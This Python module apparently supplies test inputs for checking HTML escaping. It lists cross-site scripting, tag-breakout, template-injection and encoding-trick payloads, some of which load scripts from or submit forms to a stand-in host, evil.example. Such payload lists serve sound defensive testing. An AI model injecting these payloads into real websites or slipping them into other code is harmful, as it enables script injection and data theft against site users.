"""Texts that would do harm on a page that took them for more than text."""

from collections.abc import Iterable, Iterator

PAYLOADS = (
    # elements
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x",
    "<math href=javascript:alert(1)>x",
    "<iframe srcdoc='<p>x'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//x.example>",
    "<style>*{display:none}</style>",
    "<template><p>x</template>",
    "<x onclick=alert(1) tabindex=1>x",
    "<b>bold</b><!-- hidden",
    # ends of what stands around
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</style></select></noscript><hr>",
    "--><hr><!--",
    "]]><hr><![CDATA[",
    "<![CDATA[<hr>]]>",
    "<?xml version='1.0'?><hr>",
    # ends of attributes
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    '"><hr x="',
    "'><hr x='",
    "` onmouseover=alert(1) `",
    "x onerror=alert(1)",
    # addresses
    "javascript:alert(1)",
    "java&Tab;script&colon;alert(1)",
    "data:text/html,<hr>",
    "//evil.example/%2e%2e",
    "/\\evil.example",
    # templates
    "{{ 7|add:42 }}{{ request.user.email }}",
    "{% csrf_token %}{% now 'Y' %}",
    "{# hidden #}${7*7}#{7*7}<%= 7*7 %>",
    # other ways to write a sign
    "&lt;hr&gt;&#60;hr&#62;&#x3c;hr&#x3e;",
    "%3Chr%3E\\u003chr\\u003e\\x3chr\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<scr\ufffdipt>%00&#0;\\0",
    "\u202e<hr>\u2066gpj.exe\u2069",
    "<hr\u2028onclick=1>\u2029\ufeff<hr>",
)


def joined(payloads: Iterable[str], length: int) -> Iterator[tuple[str, ...]]:
    """The payloads in order, as many in a row as are `length` characters together."""
    together: tuple[str, ...] = ()
    for payload in payloads:
        if together and len("".join((*together, payload))) > length:
            yield together
            together = ()
        together += (payload,)
    yield together
